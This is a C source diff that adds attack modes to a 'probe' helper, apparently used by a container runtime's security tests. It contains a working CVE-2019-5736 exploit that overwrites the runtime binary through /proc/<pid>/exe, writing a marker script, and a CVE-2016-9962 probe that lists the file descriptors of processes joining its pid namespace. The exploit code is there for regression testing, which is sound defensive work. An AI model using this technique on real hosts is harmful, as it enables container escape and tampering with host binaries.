@@ -14,6 +14,9 @@
  *   probe sleep <secs>         sleep, then exit 0
  *   probe signals [secs]       print {"ready":true}, then one line per caught signal;
  *                              exits 0 after SIGTERM or after secs (default 60)
+ *   probe syscall [--trap] [--thread] <name> [arg...]  one raw syscall, see probe_syscall.c
+ *   probe attack-exe ...       CVE-2019-5736 attacker, probe snoop-fds ...: CVE-2016-9962
+ *                              (see "attacks" below; used by tests/security)
  * Extra trailing arguments of actions are ignored (tests use them as markers).
  */
 #ifndef _GNU_SOURCE
@@ -975,11 +978,214 @@ static const struct section *find_section(const char *name)
     return NULL;
 }
 
+/* Included, not linked, so the probe stays one compiler invocation (helpers.bash builds
+ * it with a bare gcc when run outside meson). */
+#include "probe_syscall.c"
+/* ---------------------------------------------------------------- attacks (tests/security)
+ *
+ * Both attacks ignore the processes that exist when they start (their own container) and
+ * watch the ones that appear later: another container's init and processes joining this
+ * pid namespace. Options:
+ *   --ready F    start the observation once file F exists (default: at once)
+ *   --signal F   create F once the observation has run (a hook waits for it)
+ *   --done F     stop once F exists, after a last round (default: at --timeout)
+ *   --timeout S  give up after S seconds (default 30)
+ */
+
+static int usage(void);
+
+struct watch_opts {
+    const char *ready, *signal, *done, *target, *fifo;
+    double timeout;
+};
+
+static int watch_parse(int n, char **a, struct watch_opts *o)
+{
+    memset(o, 0, sizeof(*o));
+    o->timeout = 30;
+    for (int i = 0; i + 1 < n; i += 2) {
+        if (strcmp(a[i], "--ready") == 0) o->ready = a[i + 1];
+        else if (strcmp(a[i], "--signal") == 0) o->signal = a[i + 1];
+        else if (strcmp(a[i], "--done") == 0) o->done = a[i + 1];
+        else if (strcmp(a[i], "--target") == 0) o->target = a[i + 1];
+        else if (strcmp(a[i], "--fifo") == 0) o->fifo = a[i + 1];
+        else if (strcmp(a[i], "--timeout") == 0) o->timeout = strtod(a[i + 1], NULL);
+        else return -1;
+    }
+    return n % 2 == 0 ? 0 : -1;
+}
+
+static double now_s(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static int exists(const char *p) { return p && access(p, F_OK) == 0; }
+
+static void touch(const char *p)
+{
+    int fd = p ? open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644) : -1;
+    if (fd >= 0) close(fd);
+}
+
+static void nap_ms(long ms)
+{
+    struct timespec ts = {0, ms * 1000000L};
+    nanosleep(&ts, NULL);
+}
+
+#define MAX_PIDS 4096
+static char old_pid[MAX_PIDS * 8];
+
+/* The numeric entries of /proc, marked in old_pid when mark != 0, else returned in out. */
+static int list_pids(int mark, int *out, int max)
+{
+    DIR *d = opendir("/proc");
+    int n = 0;
+    struct dirent *e;
+    if (!d) return 0;
+    while ((e = readdir(d))) {
+        int pid = atoi(e->d_name);
+        if (pid <= 0 || pid >= MAX_PIDS * 8) continue;
+        if (mark) old_pid[pid] = 1;
+        else if (!old_pid[pid] && n < max) out[n++] = pid;
+    }
+    closedir(d);
+    return n;
+}
+
+/* probe attack-exe --target SUBSTR [--fifo F] [options]: CVE-2019-5736. Holds an O_PATH
+ * fd of /proc/<pid>/exe of every new process whose exe path contains SUBSTR (only those:
+ * the attack must not hit anything but the victim binary), opens --fifo for reading once
+ * it holds one (a victim blocked opening it for writing then runs on and exits), and tries
+ * to reopen each held fd for writing through /proc/self/fd until that works (ETXTBSY
+ * while anything still executes the file). {"wrote": path-or-null, "held": [...], ...} */
+static int act_attack_exe(int n, char **a)
+{
+    struct watch_opts o;
+    if (watch_parse(n, a, &o) < 0 || !o.target) return usage();
+    static int fds[256];
+    static char links[256][PATH_MAX];
+    int nfd = 0, fifo_fd = -1, seen = 0, last_err = 0;
+    const char *wrote = NULL;
+    list_pids(1, NULL, 0);
+    double end = now_s() + o.timeout, done_at = -1;
+    while (!exists(o.ready) && o.ready && now_s() < end) nap_ms(5);
+    while (!wrote && now_s() < end) {
+        static int pids[MAX_PIDS];
+        int np = list_pids(0, pids, MAX_PIDS);
+        for (int i = 0; i < np && nfd < 256; i++) {
+            char p[64], l[PATH_MAX];
+            snprintf(p, sizeof(p), "/proc/%d/exe", pids[i]);
+            ssize_t k = readlink(p, l, sizeof(l) - 1);
+            if (k < 0) { if (errno != ENOENT) last_err = errno; continue; }
+            l[k] = 0;
+            seen = 1;
+            if (!strstr(l, o.target)) continue;
+            int fd = open(p, O_PATH | O_CLOEXEC);
+            if (fd < 0) { last_err = errno; continue; }
+            /* The process may have exec'd in between: keep the fd only if it still names
+             * the target. */
+            char self[64];
+            snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+            k = readlink(self, l, sizeof(l) - 1);
+            if (k < 0 || (l[k] = 0, !strstr(l, o.target))) { close(fd); continue; }
+            fds[nfd] = fd;
+            memcpy(links[nfd], l, (size_t)k + 1);
+            nfd++;
+        }
+        if (nfd > 0 && fifo_fd < 0 && o.fifo) fifo_fd = open(o.fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+        if (fifo_fd >= 0) {
+            char buf[4096];
+            while (read(fifo_fd, buf, sizeof(buf)) > 0) {
+            }
+        }
+        for (int i = 0; i < nfd && !wrote; i++) {
+            char self[64];
+            snprintf(self, sizeof(self), "/proc/self/fd/%d", fds[i]);
+            int w = open(self, O_WRONLY | O_CLOEXEC);
+            if (w < 0) { last_err = errno; continue; }
+            static const char marker[] = "#!/bin/sh\necho overwritten from a container\n";
+            if (pwrite(w, marker, sizeof(marker) - 1, 0) > 0) wrote = links[i];
+            else last_err = errno;
+            close(w);
+        }
+        if (!exists(o.signal) && o.signal) touch(o.signal);
+        if (done_at < 0 && exists(o.done)) done_at = now_s() + 1; /* one last second */
+        if (done_at >= 0 && now_s() > done_at) break;
+        nap_ms(5);
+    }
+    j_begin();
+    j_str("wrote", wrote);
+    j_bool("saw_processes", seen);
+    j_arr("held");
+    for (int i = 0; i < nfd; i++) j_str(NULL, links[i]);
+    j_endarr();
+    j_int("last_errno", last_err);
+    j_finish();
+    return 0;
+}
+
+/* probe snoop-fds [options]: CVE-2016-9962. Once --ready exists, lists what
+ * /proc/<pid>/fd/<n> points to for every new process, for a few rounds, prints
+ * {"fds": {"<pid>/<n>": target}, "pids": n, "denied": n}, creates --signal and waits for
+ * --done (as pid 1 it must outlive the container that joined its pid namespace). */
+static int act_snoop_fds(int n, char **a)
+{
+    struct watch_opts o;
+    if (watch_parse(n, a, &o) < 0) return usage();
+    list_pids(1, NULL, 0);
+    double end = now_s() + o.timeout;
+    while (o.ready && !exists(o.ready) && now_s() < end) nap_ms(5);
+    int denied = 0, npids = 0, nseen = 0;
+    static long seen[8192]; /* pid << 20 | fd, each reported once */
+    j_begin();
+    j_obj("fds");
+    for (int round = 0; round < 20; round++) {
+        static int pids[MAX_PIDS];
+        int np = list_pids(0, pids, MAX_PIDS);
+        if (np > npids) npids = np;
+        for (int i = 0; i < np; i++) {
+            char p[64];
+            snprintf(p, sizeof(p), "/proc/%d/fd", pids[i]);
+            DIR *d = opendir(p);
+            if (!d) { if (errno == EACCES || errno == EPERM) denied++; continue; }
+            struct dirent *e;
+            while ((e = readdir(d))) {
+                if (e->d_name[0] == '.') continue;
+                char f[400], l[PATH_MAX], key[300];
+                snprintf(f, sizeof(f), "%s/%s", p, e->d_name);
+                ssize_t k = readlink(f, l, sizeof(l) - 1);
+                if (k < 0) continue;
+                l[k] = 0;
+                long id = (long)pids[i] << 20 | atol(e->d_name);
+                int dup = 0;
+                for (int s = 0; s < nseen && !dup; s++) dup = seen[s] == id;
+                if (dup || nseen == 8192) continue;
+                seen[nseen++] = id;
+                snprintf(key, sizeof(key), "%d/%s", pids[i], e->d_name);
+                j_str(key, l);
+            }
+            closedir(d);
+        }
+        nap_ms(10);
+    }
+    j_endobj();
+    j_int("pids", npids);
+    j_int("denied", denied);
+    j_finish();
+    touch(o.signal);
+    while (o.done && !exists(o.done) && now_s() < end) nap_ms(5);
+    return 0;
+}
+
 static int usage(void)
 {
     fprintf(stderr, "usage: probe [section...] | probe sysctl <key>... | probe write <path> <text>"
                     " | open <path> | cat <path> | stat <path>... | exit <n> | sleep <secs>"
-                    " | signals [secs]\n");
+                    " | signals [secs] | attack-exe --target S [...] | snoop-fds [...]\n");
     return 2;
 }
 
@@ -1004,8 +1210,14 @@ int main(int argc, char **argv)
             }
             return 0;
         }
+        if (strcmp(a, "syscall") == 0)
+            return act_syscall(argc - 2, argv + 2);
         if (strcmp(a, "signals") == 0)
             return act_signals(argc >= 3 ? atoi(argv[2]) : 60);
+        if (strcmp(a, "attack-exe") == 0)
+            return act_attack_exe(argc - 2, argv + 2);
+        if (strcmp(a, "snoop-fds") == 0)
+            return act_snoop_fds(argc - 2, argv + 2);
         if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
             usage();
             return 0;
